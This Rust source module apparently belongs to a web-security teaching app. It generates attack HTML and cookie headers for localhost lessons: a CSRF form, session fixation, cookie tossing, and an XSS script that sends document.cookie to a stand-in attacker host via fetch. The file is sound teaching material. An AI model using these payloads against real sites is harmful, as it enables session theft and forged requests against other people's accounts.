//! The lines behind the attacks: HTML, and the headers that her server answers with. A page shows
//! the very text that works in it.

use super::topics::Attack;

/// The text of the post that the form of lesson 13 sends; its scenario says the same.
pub(super) const POST: &str = "Buy your watches from Mallory!";

/// The values of `Set-Cookie` in the answer to `POST /toss`. A browser that takes the first one has
/// two cookies of that name for the shop. It has to refuse the second one, since a name that begins
/// so allows no `Domain` (RFC 6265bis, section 4.1.3.2).
pub(super) const TOSSED: [&str; 2] = [
    "session_id=x; Domain=shop.localhost; Path=/",
    "__Host-session_id=x; Domain=shop.localhost; Path=/; Secure",
];

/// The value of `Set-Cookie` in the answer to `POST /plant`: this session ID becomes the browser's.
pub(super) fn planted(value: &str) -> String {
    format!("session_id={value}; Path=/; HttpOnly; SameSite=Lax")
}

/// The HTML of an attack on the lesson at this port: a form with this word on its button, or a
/// script for the lesson's board.
pub(super) fn html(attack: Attack, button: &str, own_port: u16, lesson_port: u16) -> String {
    match attack {
        Attack::Note | Attack::Plant | Attack::Toss => {
            let action = format!("/{}", attack.word());
            format!(
                "<form method=\"post\" action=\"{action}\">\n  <button>{button}</button>\n</form>"
            )
        }
        Attack::Board => format!(
            "<form method=\"post\" action=\"http://localhost:{lesson_port}/board\">\n  \
             <input type=\"hidden\" name=\"text\" value=\"{POST}\">\n  \
             <button>{button}</button>\n</form>"
        ),
        Attack::Script => format!(
            "<script>fetch(\"http://evil.shop.localhost:{own_port}/loot?\" + document.cookie)</script>"
        ),
    }
}

/// The values of `Set-Cookie` that an attack is answered with; `shown` stands for the session ID.
pub(super) fn answers(attack: Attack, shown: &str) -> Vec<String> {
    match attack {
        Attack::Plant => vec![planted(shown)],
        Attack::Toss => TOSSED.map(str::to_owned).into(),
        Attack::Note | Attack::Board | Attack::Script => Vec::new(),
    }
}
